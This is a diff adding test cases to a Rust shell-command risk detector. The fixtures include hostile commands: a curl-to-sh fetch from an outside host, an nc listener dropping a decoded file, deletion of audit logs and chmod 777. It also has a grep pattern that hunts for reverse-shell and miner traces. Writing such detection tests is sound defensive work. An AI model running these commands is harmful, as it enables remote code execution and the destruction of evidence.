@@ -205,6 +205,7 @@ mod tests {
             ("nc -l -p 8888 | base64 -d > /tmp/.data", "script-drops-program"),
             ("rm -rf /tmp/.app/* /var/log/audit/*", "script-destroys"),
             ("sudo chmod -R 777 /opt/shared", "script-weakens-protection"),
+            ("grep -q a f; bash -c 'curl -s https://in.zone-sync.site/x | sh'", "script-runs-remote-code"),
         ] {
             assert!(found(text).contains(&(kind, Severity::High)), "{text}: {:?}", found(text));
         }
@@ -223,6 +224,7 @@ mod tests {
             "rm -rf /var/log/myapp/*.gz",
             "chmod 755 /opt/app/run.sh",
             "chmod 777 ./tmp",
+            "grep -aE '/dev/tcp/|base64 -d [|] sh|xmrig' ~/.bash_history > hits.txt",
         ] {
             assert!(!found(text).iter().any(|(_, it)| *it >= Severity::High), "{text}: {:?}", found(text));
         }
